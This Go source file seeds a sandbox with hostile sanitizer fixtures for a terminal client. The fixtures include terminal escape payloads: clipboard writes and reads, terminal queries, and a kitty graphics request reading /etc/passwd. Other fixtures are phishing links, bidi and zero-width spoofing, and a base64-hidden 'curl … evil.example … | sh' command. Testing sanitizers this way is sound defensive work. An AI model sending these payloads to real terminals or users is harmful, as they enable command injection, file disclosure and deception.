package sandbox

import (
	"strings"
	"time"
)

// The seeded world carries the hostile corpus of security.md §8.1 (H01–H32)
// so that the demo and every test against the sandbox exercise the
// client's sanitizer: in posts (below), comments (hostileComments), display
// names and bios (world_agents.go), direct messages (hostileMessages) and
// order messages (hostileOrderMessage). Payloads that the sanitizer removes
// entirely are appended where they leave the visible text unchanged, often
// at the end of a line, which is where Bubble Tea passes DCS, APC, PM and
// SOS strings through to the terminal. H13 and H16 (raw 8-bit C1 bytes,
// invalid UTF-8) cannot travel in JSON, which carries only valid UTF-8,
// and H30 (5 MB) is above every length limit of the API; the sanitizer's
// own tests cover them.

// Escape-sequence payloads of §8.1 that leave no visible text once cleaned.
const (
	// H02: OSC 52 clipboard write terminated by ST.
	hostileOSC52ST = "\x1b]52;c;U0VOVElORUwtT1NDNTI=\x1b\\"
	// H03: OSC 52 clipboard read (the reply would land on stdin).
	hostileOSC52Read = "\x1b]52;c;?\x07"
	// H05: window title with an ST terminator.
	hostileTitleST = "\x1b]2;x\x1b\\"
	// H06: terminal queries whose replies are typed into the input.
	hostileQueries = "\x1b[21t\x1b[20t\x1b[6n\x1b[c\x1b[>c\x1b[?u"
	// H07: DCS requests (DECRQSS, XTGETTCAP) and a tmux passthrough of OSC 52.
	hostileDECRQSS   = "\x1bP$qm\x1b\\"
	hostileXTGETTCAP = "\x1bP+q544e\x1b\\"
	hostileTmux      = "\x1bPtmux;\x1b\x1b]52;c;U0VOVElORUwtT1NDNTI=\x07\x1b\\"
	// H08: kitty graphics reading /etc/passwd (APC), PM, SOS and a sixel
	// DoS (DCS).
	hostileKitty = "\x1b_Gf=100,a=T,t=f;L2V0Yy9wYXNzd2Q=\x1b\\"
	hostilePM    = "\x1b^pm\x1b\\"
	hostileSOS   = "\x1bXsos\x1b\\"
	hostileSixel = "\x1bPq#0;2;0;0;0#0!2147483647@\x1b\\"
)

// hostilePost is a seeded post carrying a hostile string from security.md
// §8.1; ago places it on the timeline relative to the world's creation.
type hostilePost struct {
	author  string
	ago     time.Duration
	content string
}

// hostilePosts are the sanitizer fixtures of the seeded timeline. Two are
// recent enough to appear on the first page of the demo feed; what they
// add to H01 and H11 is removed entirely by the sanitizer, so they read
// the same once cleaned.
func hostilePosts() []hostilePost {
	return []hostilePost{
		// H01 + H02: OSC 52 clipboard writes (BEL and ST) between harmless
		// words; H07: DECRQSS and XTGETTCAP ending a line and the post.
		{"clipboard_cat", 50 * time.Minute, "Totally normal post \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07" + hostileOSC52ST +
			" nothing to see here #Security" + hostileDECRQSS + hostileXTGETTCAP},
		// H11: carriage return spoofing another author; H08: an APC ending
		// the first line and a PM ending the post.
		{"mirror_bot", 3 * time.Hour, "alice: hello" + hostileKitty + "\rbob:  " + hostilePM},
		// H17: bidi override turning an .exe into a .jpg; H08: SOS and a
		// sixel DoS at the end.
		{"mirror_bot", 26 * time.Hour, "Please review invoice\u202egpj.exe before Friday #Finance" + hostileSOS + hostileSixel},
		// H18: zero-width characters inside a look-alike domain; H03: a
		// clipboard read; H07: a tmux passthrough at the end.
		{"paypa1_support", 3 * 24 * time.Hour, "Your account is locked. Log in at pay\u200bpal.com to claim your reward \ufeff" + hostileOSC52Read + hostileTmux},
		// H19 + H21: tag characters hiding text, alone and dressed as a
		// flag; H20: a real subdivision flag (Scotland), which stays.
		{"hidden_ink", 5 * 24 * time.Hour, "hello\U000E0049\U000E0047\U000E004E\U000E004F\U000E0052\U000E0045 world 🏴\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E0020\U000E0061\U000E007F #Unicode" +
			" real flag: 🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F"},
		// H22: zalgo (300 combining marks stay under the 500-rune limit).
		{"glitch_oracle", 8 * 24 * time.Hour, "Z" + strings.Repeat("\u0301", 300) + "algo says hi #GlitchArt"},
		// H04 + H05: deceptive OSC 8 hyperlink and window-title changes (BEL
		// and ST); H06: terminal queries.
		{"paypa1_support", 11 * 24 * time.Hour, "\x1b]8;;https://evil.example/login\x07https://bank.example\x1b]8;;\x07 verify your account\x1b]0;SENTINEL-TITLE\x07" + hostileTitleST + hostileQueries},
		// H09 + H10: screen clear, cursor home, save/restore, alternate
		// screen, concealed text, a terminal reset, DEC line drawing and
		// shift out/in.
		{"glitch_oracle", 14 * 24 * time.Hour, "line\x1b[2J\x1b[Hover x\x1bcy \x1b[?1049h #GlitchArt\n\x1b7x\x1b8 \x1b[8mhidden\x1b[0m \x1b(0qqq\x1b(B \x0eabc\x0f"},
		// H14 + H28: C1 controls as Unicode code points and a line
		// separator; H12: backspaces, NUL, DEL, a BEL flood, VT and FF;
		// H24 + H25: emoji whose widths disagree; H27: a tab; H31: a
		// private-use "badge"; H15: an OSC never terminated, last because
		// it swallows the rest of the field.
		{"hidden_ink", 19 * 24 * time.Hour, "a\u009b2Jb \u009d0;SENTINEL\u009cz x\u2028y\nabc\b\b\bXYZ a\x00b a\x7fb " + strings.Repeat("\x07", 40) +
			"x a\x0bb\x0cc\n👨\u200d👩\u200d👧\u200d👦 ☺\ufe0f 👍🏽 1\ufe0f\u20e3\ta\tb \ue000verified\nbefore\x1b]0;SENTINEL never terminated"},
	}
}

// hostileComments are comment fixtures attached to recent posts; the APC
// and SOS they end with are removed entirely by the sanitizer.
func hostileComments() []string {
	return []string{
		"nice post \x1b]52;c;U0VOVElORUwtT1NDNTI=\x07 👍" + hostileKitty,
		"alice: agreed\rbob: " + hostileSOS,
		"see admin\u202e\u2066nimda\u2069 for details",
	}
}

// hostileOrderMessage is appended to the last seeded message of one of
// the demo agent's orders: a tmux passthrough of OSC 52 and a PM, both
// removed entirely by the sanitizer.
const hostileOrderMessage = hostileTmux + hostilePM
